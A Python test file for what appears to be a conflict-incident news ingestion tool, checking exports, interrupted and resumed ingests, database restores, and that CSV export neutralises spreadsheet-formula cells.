    db = _good_store(tmp_path / "s.duckdb")
    for fmt, out in (("csv", tmp_path / "csv"), ("xlsx", tmp_path / "x.xlsx"), ("briefing", tmp_path / "b.html")):
        r = cli("export", "--format", fmt, "--out", out, "--db", db, preexec=_limit_file_size(2000))
        assert r.returncode == 2, (fmt, r.stderr)
        line = one_error_line(r)
        assert "could not write the export" in line and "nothing written" in line, line
        files = [p for p in (out.iterdir() if out.is_dir() else [out]) if p.exists()]
        assert [p for p in files if p.stat().st_size] == [] or fmt == "csv" and all(
            p.stat().st_size <= 2000 for p in files), files


# --------------------------------------------------------------------------- 9. killed ingest, resumed

def test_killed_ingest_is_consistent_then_resumed(tmp_path):
    """Killed midway: whole batches, fusion marked pending (not silently stale); any later open that
    reads brings it up to date; the same ingest again skips what is stored and finishes."""
    from test_atomic import SLOW_FAKE_CLI, start_and_kill, write_corpus
    total, batch = 2000, 100
    corpus = write_corpus(tmp_path / "corpus.csv", total)
    db = tmp_path / "store.duckdb"
    cmd = [sys.executable, "-c", SLOW_FAKE_CLI.format(tests=str(TESTS)), "ingest", str(corpus), "--db", str(db),
           "--batch-size", str(batch), "--workers", "2"]
    start_and_kill(cmd, total, kill_at=600)
    conn = store.connect(db)
    try:
        stored = conn.execute("SELECT count(*) FROM articles").fetchone()[0]
        assert 0 < stored < total and stored % batch == 0
        assert store.fusion_pending(conn) is not None
    finally:
        conn.close()
    # an export (any reader of fused events) brings fusion up to date first, and says so
    r = cli("export", "--format", "json", "--out", tmp_path / "json", "--db", db)
    assert r.returncode == 0, r.stderr
    assert "ended before fusing its incidents; fused events brought up to date" in r.stderr
    conn = store.connect(db)
    try:
        assert store.fusion_pending(conn) is None
        assert conn.execute("SELECT count(*) FROM incidents WHERE cluster_id IS NULL").fetchone()[0] == 0
        fused = conn.execute("SELECT count(*) FROM fused_incidents").fetchone()[0]
        assert fused == store_fusion.refresh_fusion(conn)              # current: fusing again gives the same
    finally:
        conn.close()
    # the same ingest again: what is stored is skipped, counted, not extracted again
    r = subprocess.run(cmd, capture_output=True, text=True, cwd=ROOT, env=cli_env(), timeout=300)
    assert r.returncode == 0, r.stderr
    line = _summary(r)
    assert f"stored {total - stored} ({total - stored} new, 0 replaced)" in line, line
    assert f"{stored} already stored with the same text" in line, line
    conn = store.connect(db)
    try:
        assert conn.execute("SELECT count(*) FROM articles").fetchone()[0] == total
        assert store.fusion_pending(conn) is None
    finally:
        conn.close()


def test_dashboard_brings_pending_fusion_up_to_date_and_says_so(tmp_path, monkeypatch):
    db = tmp_path / "s.duckdb"
    conn = store.connect(db)
    try:
        pipeline.ingest(conn, [make_article(f"a{i}", f"{i + 1} people were killed in east Aleppo.") for i in range(5)],
                     extract=fake_extract)
        # an ingest that stopped before its fusion (as a killed one does)
        pipeline.ingest(conn, [make_article(f"b{i}", f"{i + 1} people were killed in west Aleppo.") for i in range(5)],
                     extract=fake_extract, fuse=False)
        assert store.fusion_pending(conn)
    finally:
        conn.close()
    monkeypatch.setenv("FRONTLINE_DB", str(db))
    from streamlit.testing.v1 import AppTest
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90).run()
    assert not at.exception, at.exception
    shown = " ".join(e.value for e in list(at.info) + list(at.warning))
    assert "ended before fusing its incidents" in shown and "brought up to date" in shown, shown
    conn = store.connect(db, read_only=True)
    try:
        assert store.fusion_pending(conn) is None
        assert conn.execute("SELECT count(*) FROM incidents WHERE cluster_id IS NULL").fetchone()[0] == 0
    finally:
        conn.close()
    at.run()
    assert "ended before fusing" not in " ".join(e.value for e in list(at.info) + list(at.warning))


def test_a_foreign_duckdb_database_is_refused_untouched(tmp_path):
    import duckdb
    db = tmp_path / "theirs.duckdb"
    c = duckdb.connect(str(db))
    c.execute("CREATE TABLE budget (item VARCHAR, amount DOUBLE)")
    c.execute("INSERT INTO budget VALUES ('tea', 3.5)")
    c.close()
    before = db.read_bytes()
    r = cli("export", "--format", "csv", "--out", tmp_path / "out", "--db", db)
    assert r.returncode == 2 and "not a Frontline store" in one_error_line(r)
    assert db.read_bytes() == before


def test_csv_text_quotes_line_breaks_inside_cells():
    import pandas as pd
    df = pd.DataFrame({"a": ["x\r=1+1", "y\n@SUM(1)", "\r\n-2+3", "plain"], "n": [1, -2, 3, 4]})
    rows = list(csv.reader(io.StringIO(exports.csv_text(df), newline="")))
    assert len(rows) == 5 and formula_cells(rows) == []
    assert [r[1] for r in rows[1:]] == ["1", "-2", "3", "4"]          # numbers stay numbers
    assert rows[3][0] == "'\r\n-2+3"


def test_uploaded_csv_with_duplicate_ids_says_what_it_did():
    from frontline.readers import read_upload
    raw = _dup_corpus_bytes()
    warnings: list = []
    arts = read_upload("dup.csv", raw, warn=warnings.append)
    assert [a.id for a in arts] == ["d1", "d1~2", "x", "d1~3"]
    assert any("2 repeated row(s) skipped" in w and "d1 → d1~2" in w for w in warnings), warnings


def _dup_corpus_bytes() -> bytes:
    import tempfile
    with tempfile.TemporaryDirectory() as tmp:
        return _dup_corpus(Path(tmp) / "d.csv").read_bytes()


@pytest.mark.parametrize("how", ["truncated-half", "bad-blocks", "zero-bytes"])
def test_restore_replaces_a_damaged_store(tmp_path, how):
    db = _good_store(tmp_path / "store.duckdb")
    r = cli("backup", tmp_path / "b.duckdb", "--db", db)
    assert r.returncode == 0, r.stderr
    good = store_counts(db)
    _damage(db, how)
    r = cli("restore", tmp_path / "b.duckdb", "--db", db)       # what the damaged message suggests
    assert r.returncode == 0, r.stderr
    assert store_counts(db) == good
